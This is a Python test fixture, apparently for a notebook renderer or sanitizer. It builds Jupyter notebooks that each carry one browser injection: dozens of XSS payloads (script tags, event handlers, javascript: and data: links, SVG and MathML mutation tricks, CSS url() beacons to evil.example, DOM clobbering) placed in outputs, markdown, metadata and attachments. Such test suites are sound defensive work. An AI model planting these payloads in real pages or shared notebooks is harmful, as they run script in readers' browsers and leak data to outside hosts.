"""Notebooks in which one thing is wrong: each tries to act in the reader's browser.

`fire()` reports that a script ran, a request to EVIL that something left.
"""

import base64

from nbformat.notebooknode import from_dict
from nbformat.v4 import new_markdown_cell, new_raw_cell

EVIL = "http://evil.example"
FIRE = "fire()"
DATA = (
    "data:text/html;base64,"
    + base64.b64encode(f"<script>top.{FIRE}</script>".encode()).decode()
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJ"
    "RU5ErkJggg=="
)

HTML = {
    "script": f"<script>{FIRE}</script>",
    "script in capitals": f"<ScRiPt >{FIRE}</sCrIpT\t>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "module": f'<script type="module">import "{EVIL}/x.mjs"</script>',
    "broken script": f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    "error handler": f'<img src=x onerror="{FIRE}">',
    "handler after a slash": f'<img/src="x"/onerror="{FIRE}">',
    "load handler": f'<body onload="{FIRE}"><style onload="{FIRE}"></style>',
    "toggle handler": f'<details open ontoggle="{FIRE}"><summary>a</summary></details>',
    "animation handler": '<style>@keyframes k{from{color:red}}</style>'
    f'<p style="animation:k 1s" onanimationstart="{FIRE}">a</p>',
    "focus handler": f'<input autofocus onfocus="{FIRE}">',
    "video handler": f'<video><source onerror="{FIRE}"></video>',
    "marquee handler": f'<marquee onstart="{FIRE}">a</marquee>',
    "hover handler": f'<p onmouseover="{FIRE}" onclick="{FIRE}">hover</p>',
    "javascript link": f'<a href="javascript:{FIRE}">click</a>',
    "disguised link": f'<a href=" java&#10;script&colon;{FIRE}">click</a>',
    "data link": f'<a href="{DATA}">click</a>',
    "link to a handed in page": '<a href="evil.html">click</a>',
    "frame": f'<iframe src="{DATA}"></iframe>',
    "frame with content": '<iframe srcdoc="<script>top.fire()</script>"></iframe>',
    "object": f'<object data="{DATA}"></object>',
    "embed": f'<embed src="{EVIL}/x.swf">',
    "form": f'<form action="javascript:{FIRE}"><button>click</button></form>'
    f'<button formaction="javascript:{FIRE}">click</button>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/moved">',
    "base": f'<base href="{EVIL}/">',
    "stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "prefetch": f'<link rel="prefetch" href="{EVIL}/x">',
    "picture from elsewhere": f'<img src="{EVIL}/pixel.png">',
    "source set": f'<img srcset="{EVIL}/pixel.png 1x">',
    "style": f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/b)}}</style>",
    "style attribute": f'<p style="background:url({EVIL}/b)">a</p>',
    "escaped style": f'<p style="background:\\75 rl({EVIL}/b)">a</p>',
    "image set": f"<p style=\"background:image-set('{EVIL}/b' 1x)\">a</p>",
    "list style": f'<ul style="list-style:url({EVIL}/b)"><li>a</li></ul>',
    "old background": f'<table background="{EVIL}/b"><tr><td>a</td></tr></table>',
    "inline svg": f"{SVG}><script>{FIRE}</script></svg>",
    "svg handler": f'{SVG} onload="{FIRE}"><rect width="9" height="9"/></svg>',
    "svg animation": f'{SVG}><a><animate attributeName="href"'
    f' values="javascript:{FIRE}"/><text y="20">click</text></a></svg>',
    "svg with a page": f"{SVG}><foreignObject><iframe xmlns="
    f'"http://www.w3.org/1999/xhtml" src="{DATA}"/></foreignObject></svg>',
    "svg use": f'{SVG}><use href="{EVIL}/x.svg#a"/></svg>',
    "svg picture": f'<img src="data:image/svg+xml,{SVG[:4]} onload=alert(1)>">',
    "math": f'<math><mi xlink:href="javascript:{FIRE}">click</mi></math>',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror={FIRE}&gt;\">",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror='
    f"{FIRE}>\"></noscript>",
    "mutation by comment": f"<!--><img src=x onerror={FIRE}>-->",
    "odd end of comment": f"<!--a--!><img src=x onerror={FIRE}>",
    "cdata": f"<![CDATA[><img src=x onerror={FIRE}>]]>",
    "instruction": f"<?php ><img src=x onerror={FIRE}>?>",
    "template": f"<template><script>{FIRE}</script></template>",
    "textarea": "<textarea><img title='</textarea>"
    f"<img src=x onerror={FIRE}>'></textarea>",
    "open attribute": '<p title="',
    "and its end in the next cell": f'"><img src=x onerror={FIRE}>',
    "open comment": "<!--",
    "end tags": "</div></div></div></div></body></html>"
    f"<script>{FIRE}</script>",
    "clobbering": '<a id="submission_id"></a><a id="base_url" name="base_url"></a>',
    "files prefix": f'<a href="files/javascript:{FIRE}">click</a>',
    "tex": f"$\\href{{javascript:{FIRE}}}{{click}}$",
    "spelled tex": f"$&#92;hr&#101;f{{javascript:{FIRE}}}{{click}}$",
    "number that crashes parsers": "&#" + "9" * 5000 + ";",
}  # fmt: skip

MARKDOWN = {
    "link": f"[click](javascript:{FIRE})",
    "link by reference": f"[click]\n\n[click]: javascript:{FIRE}",
    "automatic link": "<javascript:fire()>",
    "data link": f"[click]({DATA})",
    "files prefix": "[click](files/javascript:fire())",
    "picture": f"![a]({EVIL}/pixel.png)",
    "picture by data": f"![a]({DATA})",
    "title": f'[click](http://a.example "\\" onmouseover=\\"{FIRE}")',
    "alternative text": f'![" onerror="{FIRE}](x)',
    "mermaid": f"```mermaid\n<img src=x onerror={FIRE}>\n```",
    "language": f'```"><img/src=x/onerror={FIRE}>\nx\n```',
    "heading": f"# <img src=x onerror={FIRE}>",
    "math": f"$$ </p><img src=x onerror={FIRE}> $$",
    "environment": f"\\begin{{a}}<img src=x onerror={FIRE}>\\end{{a}}",
    "missing attachment": "![a](attachment:missing.png)",
    "half a tag": "<img src=x title='",
    "details": f"<details ontoggle={FIRE} open><summary>a</summary>\n\n*b*\n\n"
    "</details>",
    "deep nesting": ">" * 5000,
}

DISPLAYS = {
    "javascript": {"application/javascript": FIRE},
    "older javascript": {"text/javascript": FIRE},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
    "json with html": {"application/json": {"a": f"<script>{FIRE}</script>"}},
    "latex": {
        "text/latex": f"$\\href{{javascript:{FIRE}}}{{x}}$</div>{HTML['script']}"
    },
    "svg": {"image/svg+xml": HTML["inline svg"]},
    "no svg": {"image/svg+xml": HTML["script"]},
    "png": {"image/png": f'x" onerror="{FIRE}'},
    "pdf": {"application/pdf": "JVBERi0="},
    "mermaid": {"text/vnd.mermaid": HTML["error handler"]},
    "unknown kind": {"text/x-evil": HTML["script"], 'a"><script>': "x"},
    "text": {"text/plain": HTML["script"]},
    "list": {"text/html": ["<scr", f"ipt>{FIRE}</script>"]},
    "object": {"text/html": {"a": HTML["script"]}},
}


def shown(data, **metadata):
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def code(*outputs):
    # from_dict, because what comes from outside need not be valid
    cell = {"cell_type": "code", "metadata": {}, "source": "x = 1"}
    return from_dict(cell | {"execution_count": 1, "outputs": list(outputs)})


def injections():
    """Name → the cells of a notebook in which one thing is wrong."""
    cells = {f"html: {k}": [code(shown({"text/html": v}))] for k, v in HTML.items()}
    cells |= {f"in text: {k}": [new_markdown_cell(v)] for k, v in HTML.items()}
    cells |= {f"markdown: {k}": [new_markdown_cell(v)] for k, v in MARKDOWN.items()}
    cells |= {
        f"shown markdown: {k}": [code(shown({"text/markdown": v}))]
        for k, v in MARKDOWN.items()
    }
    cells |= {f"display: {k}": [code(shown(v))] for k, v in DISPLAYS.items()}
    tag = HTML["error handler"]
    error = {"output_type": "error", "ename": tag, "evalue": tag, "traceback": [tag]}
    stream = {"output_type": "stream", "name": tag, "text": tag + "\x1b]8;;x\x07"}
    cells["error"] = [code(error)]
    cells["stream"] = [code(stream)]
    cells["raw"] = [new_raw_cell(tag)]
    cells["isolated html"] = [
        code(shown({"text/html": HTML["script"]}, **{"text/html": {"isolated": True}}))
    ]
    width = {"image/png": {"width": f"1 onload={FIRE} x", "height": f'"><{tag}'}}
    cells["size of a picture"] = [code(shown({"image/png": PNG}, **width))]
    filenames = {"filenames": {"image/png": f'x" onerror="{FIRE}'}}
    cells["name of a file"] = [code(shown({"image/png": PNG}, **filenames))]
    counted = code()
    counted.execution_count = tag
    cells["execution count"] = [counted]
    tagged = code()
    tagged.metadata = from_dict({"tags": [tag], "magics_language": tag, "alt": tag})
    tagged.id = tag
    cells["cell metadata"] = [tagged]
    attached = new_markdown_cell("![a](attachment:a.png)")
    attached.attachments = from_dict({"a.png": {"text/html": f'x" onerror="{FIRE}'}})
    cells["attachment"] = [attached]
    return cells


INJECTIONS = injections()


METADATA = {
    "title": HTML["script"],
    "widgets": {"application/vnd.jupyter.widget-state+json": HTML["script"]},
    "language_info": {"name": "python", "pygments_lexer": '"><script>'},
}


def notebook(cells, metadata=METADATA):
    """A notebook of these cells."""
    cells = [{"id": f"cell-{k}"} | cell for k, cell in enumerate(cells)]
    return from_dict(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
    )
